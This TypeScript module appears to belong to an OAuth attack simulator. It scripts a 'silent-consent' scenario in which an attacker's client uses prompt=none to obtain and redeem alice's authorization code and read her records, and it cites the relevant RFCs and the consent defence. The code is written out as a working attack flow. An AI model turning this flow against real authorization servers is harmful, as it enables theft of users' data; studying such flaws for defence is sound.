import type { Step } from '../flows/step.js'
import { codeChallenge } from '../oauth/pkce.js'
import type { Refusal } from './defence.js'
import { type Attack, planned } from './model.js'
import { authorizationUrl, authorize, grantRequest, parameterOf } from './moves.js'
import { stealRecords } from './records-theft.js'
import type { Scene } from './scene.js'
import { HONEST_LOGIN, honestLogin } from './victim.js'

/** The attacker's own client: registered like any other, and never allowed by alice. */
const CLIENT = 'free-quiz'

async function* run(scene: Scene): AsyncGenerator<Step, Refusal | undefined, void> {
  const { victim, site, step, random } = scene
  yield* honestLogin(scene)
  const page = await victim.open(`${site.url}/quiz`)
  yield step('lure', { exchange: page, note: 'a page of the attacker, which goes on by itself' })

  const verifier = Buffer.from(random(32)).toString('base64url')
  const catcher = `${site.url}/catch`
  const url = authorizationUrl(scene, {
    ...{ response_type: 'code', client_id: CLIENT, redirect_uri: catcher, scope: 'records:read' },
    ...{ state: 'anything', prompt: 'none' },
    ...{ code_challenge: codeChallenge(verifier), code_challenge_method: 'S256' },
  })
  const { target, exchange } = yield* authorize(scene, url, {
    browser: victim,
    from: page,
    allows: false,
    names: ['authorization_request', 'authorization_request'],
  })
  if (target === undefined) return scene.refusal(exchange)
  yield step('code_arrival', { exchange: (await victim.follow(exchange))! })
  const code = parameterOf(site.visits.at(-1)!.url, 'code')
  if (code === undefined) return scene.refusal(exchange)
  const redemption = { code, redirect_uri: catcher, code_verifier: verifier }
  return yield* stealRecords(scene, grantRequest(scene, CLIENT, 'authorization_code', redemption))
}

/** A client of the attacker that gets access although nobody allowed it. */
export const silentConsent: Attack = {
  name: 'silent-consent',
  title: 'access for a client of the attacker, without a question',
  rule: 'RFC 6749 §10.2',
  weak: ['consent-skipped'],
  opened: { 'consent-skipped': { stolen: true } },
  starts: [
    'The attacker has registered a client of their own, as anybody may.',
    'Alice is logged in at the authorization server, and visits a page of the attacker (A1 in RFC 9700 §3).',
  ],
  steals: 'records of alice',
  defences: [{ check: 'consent', rule: 'OpenID Connect Core §3.1.2.6' }],
  wouldNotHelp: [
    'exact redirect addresses: the address is the registered one of the attacker’s client',
    'PKCE and state: the attacker is the client, and keeps both',
    'a strong login: alice logged in an hour ago',
  ],
  clients: site => [
    {
      ...{ client_id: CLIENT, client_name: 'Free quiz', redirect_uris: [`${site}/catch`] },
      ...{ grant_types: ['authorization_code'], response_types: ['code'] },
    },
  ],
  plan: [
    HONEST_LOGIN,
    planned(
      'lure',
      ['user_agent', 'attacker'],
      'GET /quiz',
      '9700 §3',
      'Alice opens a page of the attacker.',
    ),
    planned(
      'authorization_request',
      ['user_agent', 'authorization_server'],
      'GET /authorization',
      '6749 §4.1.1',
      'The page sends her browser on to the authorization server, with prompt=none: nothing may be shown.',
    ),
    planned(
      'code_arrival',
      ['user_agent', 'attacker'],
      'GET /catch',
      '6749 §4.1.2',
      'The answer comes to the attacker: a code, or the error that alice must be asked.',
    ),
    planned(
      'token_request',
      ['attacker', 'authorization_server'],
      'POST /token',
      '6749 §4.1.3',
      'The attacker redeems the code as their own client.',
    ),
    planned(
      'resource_request',
      ['attacker', 'resource_server'],
      'GET /records',
      '6750 §2.1',
      'The attacker reads the records of alice.',
    ),
  ],
  run,
}
